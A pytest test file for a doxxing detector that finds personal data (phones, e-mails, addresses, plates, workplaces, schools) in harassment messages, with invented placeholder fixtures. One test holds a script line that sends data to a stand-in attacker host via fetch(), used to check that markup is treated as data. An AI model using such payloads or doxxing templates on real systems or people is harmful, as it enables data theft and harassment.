"""Doxxing: personal data found in messages, with exact spans, and harmless numbers left alone."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rempart.analysis.raid import doxxing
from rempart.analysis.raid.corpus import Corpus
from rempart.analysis.raid.doxxing import describe, doxxing_score, find_spans, scan
from rempart.analysis.raid.types import Doxxing, Span
from rempart.models import Account, Mention, Message

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)

#: Messages that disclose personal data: the text, and each (kind, exact span text) in order.
POSITIVES: dict[str, tuple[str, list[tuple[str, str]]]] = {
    # phones: French national and international forms, foreign numbers with + or 00
    "phone_spaces": ("appelez-la au 06 39 98 12 34, elle répond", [("phone", "06 39 98 12 34")]),
    "phone_dots": ("son num 06.39.98.12.34 lol", [("phone", "06.39.98.12.34")]),
    "phone_dashes": ("tel 06-39-98-12-34", [("phone", "06-39-98-12-34")]),
    "phone_glued": ("0639981234 harcelez-la", [("phone", "0639981234")]),
    "phone_landline": ("chez elle : 01 99 00 12 34", [("phone", "01 99 00 12 34")]),
    "phone_plus33": ("+33 6 39 98 12 34 appelez en masse", [("phone", "+33 6 39 98 12 34")]),
    "phone_plus33_glued": ("numéro +33639981234", [("phone", "+33639981234")]),
    "phone_0033": ("0033 6 39 98 12 34 voilà", [("phone", "0033 6 39 98 12 34")]),
    "phone_after_digits": (
        "@megan4 0033 5 36 49 29 79 is her landline",
        [("phone", "0033 5 36 49 29 79")],
    ),
    "phone_trunk_in_brackets": (
        "appelle +33 (0)6 39 98 12 34",
        [("phone", "+33 (0)6 39 98 12 34")],
    ),
    "phone_area_brackets": ("tél: (06) 39-98-12-34", [("phone", "(06) 39-98-12-34")]),
    "phone_uk": ("call her on +44 20 7946 0958 tonight", [("phone", "+44 20 7946 0958")]),
    "phone_uk_00": ("her mum: 0044 20 7946 0958", [("phone", "0044 20 7946 0958")]),
    "phone_us": ("his cell is +1 202 555 0143", [("phone", "+1 202 555 0143")]),
    # e-mail, plain and lightly obfuscated
    "email": (
        "écrivez-lui : marie.dupont@example.invalid !",
        [("email", "marie.dupont@example.invalid")],
    ),
    "email_plus": (
        "mail: m+harcel-ement_1@sub.mail.example.",
        [("email", "m+harcel-ement_1@sub.mail.example")],
    ),
    "email_brackets": (
        "marie.dupont[at]example[dot]invalid",
        [("email", "marie.dupont[at]example[dot]invalid")],
    ),
    "email_parens": (
        "spam: marie.dupont (at) example (dot) invalid",
        [("email", "marie.dupont (at) example (dot) invalid")],
    ),
    "email_arobase": (
        "marie arobase example point invalid",
        [("email", "marie arobase example point invalid")],
    ),
    "email_spoken": (
        "write to jean.d at example dot com",
        [("email", "jean.d at example dot com")],
    ),
    "email_spaced_at_sign": (
        "marie.dupont @ example.invalid",
        [("email", "marie.dupont @ example.invalid")],
    ),
    "email_at_sign_brackets": ("jean_r[@]mail.example ici", [("email", "jean_r[@]mail.example")]),
    # addresses, French and English
    "address_full": (
        "elle habite au 14 rue des Lilas, 75011 Paris",
        [("address", "14 rue des Lilas, 75011 Paris")],
    ),
    "address_bis_city": (
        "au 14 bis rue des Lilas à Lyon 3e ce soir",
        [("address", "14 bis rue des Lilas à Lyon 3e")],
    ),
    "address_comma_general": (
        "il vit au 3, avenue du Général Leclerc 92100 Boulogne-Billancourt",
        [("address", "3, avenue du Général Leclerc 92100 Boulogne-Billancourt")],
    ),
    "address_bd": ("Adresse : 47 bd du Moulin. Bonne visite", [("address", "47 bd du Moulin")]),
    "address_place": ("rdv 5 place de la Concorde", [("address", "5 place de la Concorde")]),
    "address_impasse": ("8 impasse des Acacias, c'est là", [("address", "8 impasse des Acacias")]),
    "address_lower": ("elle vit 12 rue des lilas", [("address", "12 rue des lilas")]),
    "address_date_name": (
        "au 2 rue du 8 Mai 1945 à Nantes",
        [("address", "2 rue du 8 Mai 1945 à Nantes")],
    ),
    "address_english": (
        "she lives at 221B Baker Street, London",
        [("address", "221B Baker Street, London")],
    ),
    "address_english_road": ("his flat: 14 Elm Road", [("address", "14 Elm Road")]),
    "address_stops_before_next_sentence": (
        "Her husband lives at 1 allée des Tisserands Car of her husband: 3581 CT 05",
        [("address", "1 allée des Tisserands"), ("licence_plate", "3581 CT 05")],
    ),
    # postal code and city alone
    "postal": ("elle habite 93100 Montreuil maintenant", [("postal_code", "93100 Montreuil")]),
    "postal_after_city": (
        "elle habite à Montreuil (93100)",
        [("postal_code", "Montreuil (93100)")],
    ),
    "postal_arrondissement": ("elle crèche 69003 Lyon 3e", [("postal_code", "69003 Lyon 3e")]),
    # licence plates
    "plate_siv": ("sa voiture c'est AB-123-CD", [("licence_plate", "AB-123-CD")]),
    "plate_siv_spaces": ("La voiture de son mari : GY 602 GH", [("licence_plate", "GY 602 GH")]),
    "plate_fni": (
        "Immatriculée 8282 RM 79, vous la reconnaîtrez",
        [("licence_plate", "8282 RM 79")],
    ),
    "plate_fni_corsica": ("plaque 123 ABC 2A", [("licence_plate", "123 ABC 2A")]),
    "plate_bare_with_cue": ("immat AB123CD", [("licence_plate", "AB123CD")]),
    "plate_not_issued_letters": (
        "Plaque LC-233-SS, garée devant",
        [("licence_plate", "LC-233-SS")],
    ),
    "plate_caps_words_with_cue": ("sa voiture : DE 300 ET", [("licence_plate", "DE 300 ET")]),
    # workplace
    "work_chez": (
        "elle travaille chez Dupont Logistique à Rennes.",
        [("workplace", "Dupont Logistique")],
    ),
    "work_city_then_chez": (
        "elle travaille à Lyon chez Martin et Fils",
        [("workplace", "Martin et Fils")],
    ),
    "work_institution": (
        "Son compagnon bosse à la médiathèque de Lanrivoal regarde derrière toi",
        [("workplace", "médiathèque de Lanrivoal")],
    ),
    "work_chu": ("il bosse au CHU de Nantes", [("workplace", "CHU de Nantes")]),
    "work_employer": (
        "son employeur c'est la Société Générale",
        [("workplace", "Société Générale")],
    ),
    "work_english": ("She works at Acme Widgets in Leeds", [("workplace", "Acme Widgets")]),
    "work_english_office": (
        "her office is at Globex Corporation, go",
        [("workplace", "Globex Corporation")],
    ),
    "work_then_phone": (
        "Her job: at Laboratoires Sorvel 01 99 00 49 29 is her landline",
        [("workplace", "Laboratoires Sorvel"), ("phone", "01 99 00 49 29")],
    ),
    "work_institution_then_plate": (
        "Son boulot c'est à la poste de Saint-Ombre Plaque EA-946-WL",
        [("workplace", "poste de Saint-Ombre"), ("licence_plate", "EA-946-WL")],
    ),
    "work_before_hashtag": (
        "Her mother works at la poste de Lanrivoal #BalanceTaMargaux",
        [("workplace", "poste de Lanrivoal")],
    ),
    "work_entity_runs_on": (
        "Her job: at l'hôpital de Montbrévin this won't end well",
        [("workplace", "hôpital de Montbrévin")],
    ),
    "work_elided_word": (
        "il travaille à la Caisse d'épargne de Lyon",
        [("workplace", "Caisse d'épargne de Lyon")],
    ),
    # school
    "school_lycee": (
        "Sa fille est au lycée Victor Hugo de Besançon",
        [("school", "lycée Victor Hugo de Besançon")],
    ),
    "school_des": (
        "Ses gosses sont au collège des Grands-Prés",
        [("school", "collège des Grands-Prés")],
    ),
    "school_stops_before_next_sentence": (
        "Son fils est au collège des Trois-Chênes Sa voiture : 571 WX 77",
        [("school", "collège des Trois-Chênes"), ("licence_plate", "571 WX 77")],
    ),
    "school_then_email": (
        "Son fils est au collège des Grands-Prés zoe.m@example.com, écrivez",
        [("school", "collège des Grands-Prés"), ("email", "zoe.m@example.com")],
    ),
    "school_university": ("il est à l'université Paris 8", [("school", "université Paris 8")]),
    "school_teacher": ("elle est prof au collège Jean Moulin", [("school", "collège Jean Moulin")]),
    "school_english": (
        "her kids go to Hillside Primary School",
        [("school", "Hillside Primary School")],
    ),
    "school_university_of": (
        "his son studies at the University of Leeds",
        [("school", "University of Leeds")],
    ),
}

#: Messages with numbers, "@" or cue words that disclose nothing.
NEGATIVES: dict[str, str] = {
    "helplines": "Appelez le 3919 ou le 3018, le 119, le 15, le 17, le 18, le 112, le 114",
    "toll_free": "le 0 800 05 95 95 c'est SOS homophobie, le 0800 123 456 aussi",
    "premium": "jeu concours au 08 99 12 34 56",
    "dates_times": "rdv le 12/03/2024 à 14:30, ou le 2024-03-12 14:30:00, ou 14h30",
    "dotted_dates": "le 12.03.2024 et le 13.03.2024",
    "counts": "12 000 messages en 3 heures, 639 981 234 vues, 1 234 567 890 impressions",
    "count_then_capital": "j'ai 20000 Abonnés et 45000 Followers",
    "years": "entre 2019 et 2024 12 345 personnes ont signé",
    "article": "article 222-33-2-2 du Code pénal, article L. 226-4-1",
    "prices": "ça coûte 1 234 567 890 € et 25,99 €, soit 0,99 $ par jour",
    "percentages": "71 % des comptes, 38,5% des messages, 0.5%",
    "url_digits": "https://x.invalid/status/1790000000000000000 et https://t.invalid/0639981234",
    "hashtags_handles": "#0639981234 @user0639981234 #AB123CD @marie_dupont",
    "mastodon_handle": "suivez @bob@instance.example et @alice@mastodon.example",
    "long_id": "id 123456789012345678, ref 98765432109876543",
    "versions_ips": "version 10.0.19041.1234, v2.3.1, 192.168.1.254",
    "score": "3-1 hier soir, et 2 - 2 la semaine dernière",
    "units": "il fait 3 PM 12 degrés, 500 GB 20 fois",
    "shouting": "ILS SONT PLUS DE 300 ET ALORS, LA 100 EN 2024 DE 12 AU",
    "references": "commande n° 0123456789, réf. 0639981234, IBAN FR76 3000 6000 0112 3456 7890 189",
    "helpline_09": "appelle SOS Amitié au 09 72 39 40 50, c'est anonyme",
    "courses": "j'ai fait 3 cours de yoga et 2 places de ciné",
    "first_person_work": "je travaille chez Orange et j'aime ça",
    "work_at_home": "elle travaille chez elle, il bosse à la maison",
    "work_city": "elle travaille à Lyon",
    "work_hard": "il bosse dur celui-là",
    "republic_school": "l'école de la République est en danger",
    "school_lowercase": "le lycée c'est dur, la fac aussi",
    "school_generic_news": "Le lycée Victor Hugo ferme demain pour travaux",
    "spoken_at": "look at google dot com",
    "at_everyone": "merci @ tous les gens",
    "short_numbers": "15 17 18 112 114 119",
    "phone_without_trunk": "639 981 234 vues",
    "too_long_for_a_phone": "06 39 98 12 34 56 78",
    "empty": "",
}


def spans_of(text: str) -> list[tuple[str, str]]:
    return [(s.kind, s.text) for s in find_spans(text)]


def expected_spans(text: str, wanted: list[tuple[str, str]]) -> list[Span]:
    """The spans a perfect detector returns: each quoted text located in the message."""
    out, pos = [], 0
    for kind, quoted in wanted:
        start = text.index(quoted, pos)
        out.append(Span(start, start + len(quoted), kind, quoted))
        pos = start + len(quoted)
    return out


@pytest.mark.parametrize("key", sorted(POSITIVES))
def test_positive_has_exact_spans(key: str) -> None:
    text, wanted = POSITIVES[key]
    assert find_spans(text) == expected_spans(text, wanted)


@pytest.mark.parametrize("key", sorted(NEGATIVES))
def test_negative_discloses_nothing(key: str) -> None:
    assert spans_of(NEGATIVES[key]) == []


def test_several_kinds_in_one_message() -> None:
    text = (
        "Voilà : 06 39 98 12 34, marie.d[at]example[dot]invalid, elle habite 14 rue des "
        "Lilas, 75011 Paris, sa voiture AB-123-CD et elle travaille chez Dupont Logistique."
    )
    assert spans_of(text) == [
        ("phone", "06 39 98 12 34"),
        ("email", "marie.d[at]example[dot]invalid"),
        ("address", "14 rue des Lilas, 75011 Paris"),
        ("licence_plate", "AB-123-CD"),
        ("workplace", "Dupont Logistique"),
    ]


def test_address_swallows_its_postal_code() -> None:
    """A postal code and city inside an address are not reported a second time."""
    assert [k for k, _ in spans_of("au 14 rue des Lilas 75011 Paris")] == ["address"]


@pytest.mark.parametrize(
    "prefix",
    [
        "😀👩‍👩‍👧 ",
        "Éloïse, ça, c'est épouvantable… ",
        "\u202e\u202c ",
        "𝕳𝖔𝖓𝖙𝖊 ",
        "\x00\x1b[31m ",
        "İİİ ",
    ],
)
def test_offsets_are_str_indexes_after_emoji_accents_and_controls(prefix: str) -> None:
    text = prefix + "appelle 06 39 98 12 34 ou écris à zoé.m@example.invalid"
    spans = find_spans(text)
    assert [(s.kind, text[s.start : s.end]) for s in spans] == [
        ("phone", "06 39 98 12 34"),
        ("email", "zoé.m@example.invalid"),
    ]
    assert spans[0].start == len(prefix) + len("appelle ")


def test_html_and_script_are_data() -> None:
    text = "<script>fetch('https://evil.invalid/?n=0639981234')</script><b>06 39 98 12 34</b>"
    assert spans_of(text) == [("phone", "06 39 98 12 34")]


def test_rtl_override_is_data() -> None:
    text = "\u202eelle habite\u202c au 14 rue des Lilas"
    (span,) = find_spans(text)
    assert text[span.start : span.end] == "14 rue des Lilas"


def test_long_text_is_scanned_whole() -> None:
    text = "bla " * 25_000 + "elle habite 93100 Montreuil"
    assert len(text) > 100_000
    (span,) = find_spans(text)
    assert (span.kind, span.start, span.text) == ("postal_code", 100_012, "93100 Montreuil")


def test_long_hostile_text_gives_bounded_output() -> None:
    """Pasted walls of cues or numbers are handled as data, with consistent spans."""
    walls = [
        "elle travaille chez Dupont Logistique. " * 2600,
        "appelle 06 39 98 12 34 " * 4400,
        "a@b.cc " * 15000,
        "12 rue " * 15000,
        "[at] " * 20000,
        "a" * 100_000 + "@x.example",
    ]
    for text in walls:
        assert len(text) > 90_000
        spans = find_spans(text)
        assert all(text[s.start : s.end] == s.text for s in spans)
        assert all(a.end <= b.start for a, b in zip(spans, spans[1:]))
    assert len(find_spans(walls[0])) == doxxing._MAX_CUES


#: Pieces from which the property test builds texts: single characters and fragments of data.
PIECES = [
    *"0123456789 +-.()@[]AZBCDrueàé,\n\u202e😀",
    "06 39 98 ",
    "rue des ",
    "Lilas",
    "75011 ",
    " at ",
    " dot ",
    "chez ",
    "Paris",
    "lycée ",
    "travaille ",
]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_spans_are_consistent_on_any_text(text: str) -> None:
    spans = find_spans(text)
    assert all(0 <= s.start < s.end <= len(text) and text[s.start : s.end] == s.text for s in spans)
    assert all(a.end <= b.start for a, b in zip(spans, spans[1:]))
    assert all(s.kind in doxxing.KINDS for s in spans)


# ------------------------------------------------------------------------------------- scan
def corpus_of(texts: list[tuple[str, str]]) -> Corpus:
    """A corpus of (author handle, text) messages; ``cible`` is the target."""
    handles = sorted({h for h, _ in texts} | {"cible"})
    accounts = [Account("x", str(i), handle=h) for i, h in enumerate(handles)]
    by_handle = {a.handle: a.id for a in accounts}
    messages = [
        Message(
            "x",
            f"m{i}",
            text,
            created_at=T0 + timedelta(minutes=i),
            author_id=by_handle[h],
            author_handle=h,
            mentions=(Mention("cible"),),
        )
        for i, (h, text) in enumerate(texts)
    ]
    return Corpus.build(messages, accounts, [], None, ["cible"])


SCENE = [
    ("cible", "Mon numéro pro : 01 99 00 12 34, écrivez-moi"),  # the target's own post
    ("troll1", "@cible t'es une honte"),
    ("troll2", "@cible elle habite au 14 rue des Lilas, 75011 Paris, allez-y"),
    ("ally", "@cible courage, appelle le 3919 si besoin"),
    ("troll3", "@cible son num 06 39 98 12 34 et sa fille est au lycée Victor Hugo"),
    ("troll1", "@cible 12 000 messages en 3 heures mdr"),
]


def test_scan_reports_messages_with_data_and_skips_the_target() -> None:
    corpus = corpus_of(SCENE)
    found = scan(corpus)
    assert [d.message_id for d in found] == ["m2", "m4"]
    assert found[0].kinds == ["address"]
    assert found[1].kinds == ["phone", "school"]
    assert [s.text for s in found[1].spans] == ["06 39 98 12 34", "lycée Victor Hugo"]
    assert found[1].to_json()["spans"][0] == {
        "start": 15,
        "end": 29,
        "kind": "phone",
        "text": "06 39 98 12 34",
    }


def test_scan_on_chosen_rows() -> None:
    corpus = corpus_of(SCENE)
    assert [d.message_id for d in scan(corpus, rows=[0, 1, 4])] == ["m4"]
    assert scan(corpus, rows=[]) == []


def test_scan_agrees_with_find_spans() -> None:
    texts = [("u", POSITIVES[k][0]) for k in sorted(POSITIVES)]
    corpus = corpus_of(texts)
    found = {d.message_id: d.spans for d in scan(corpus)}
    for r, (_, text) in enumerate(texts):
        assert found.get(corpus.ids[r], []) == find_spans(text)


def test_spacy_reads_only_short_windows_of_cue_messages(monkeypatch: pytest.MonkeyPatch) -> None:
    """Ordinary messages never reach the entity recogniser; cue messages send a window."""
    seen: list[str] = []
    real = doxxing._entity_pass

    def recording(texts: list[str]) -> Any:
        seen.extend(texts)
        return real(texts)

    monkeypatch.setattr(doxxing, "_entity_pass", recording)
    ordinary = [
        ("u", f"message ordinaire numéro {i} à 14h{i % 60:02d}, 12 000 vues") for i in range(300)
    ]
    cue = "bla " * 200 + "elle travaille chez Dupont Logistique" + " bla" * 200
    found = scan(corpus_of([*ordinary, ("v", cue)]))
    assert [d.kinds for d in found] == [["workplace"]]
    assert len(seen) == 1 and "Dupont Logistique" in seen[0] and len(seen[0]) < 300


# ------------------------------------------------------------------------- score and words
def test_score_grows_with_what_is_disclosed() -> None:
    address = find_spans("14 rue des Lilas")
    postal = find_spans("elle habite 93100 Montreuil")
    both = find_spans("14 rue des Lilas, appelle 06 39 98 12 34")
    assert doxxing_score([]) == 0.0
    assert 0 < doxxing_score(postal) < doxxing_score(address) < doxxing_score(both) < 1
    assert doxxing_score(address + address) == doxxing_score(address)


def test_describe_quotes_the_data() -> None:
    spans = find_spans("appelle 06 39 98 12 34 ou écris à zoe@example.invalid")
    sentence = describe(Doxxing("42", ["phone", "email"], spans))
    assert sentence == (
        "Message 42 discloses a phone number ('06 39 98 12 34') and an e-mail "
        "address ('zoe@example.invalid')."
    )


def test_the_spacy_worker_process_gives_the_same_entities() -> None:
    from rempart.analysis.raid import doxxing

    texts = [
        "Elle bosse chez Dupont & Fils à Nantes depuis 2019.",
        "Son fils est au collège Jean Moulin de Rennes.",
        "<script>alert(1)</script>",
    ]
    doxxing.prewarm()
    try:
        assert "worker" in doxxing._WORKER
        from_worker = doxxing._entity_pass(texts)
    finally:
        doxxing.shutdown_worker()
    assert "worker" not in doxxing._WORKER
    assert from_worker == doxxing.entities_of(texts)
    assert "Dupont & Fils" in [texts[0][a:b] for a, b, _ in from_worker[0]]
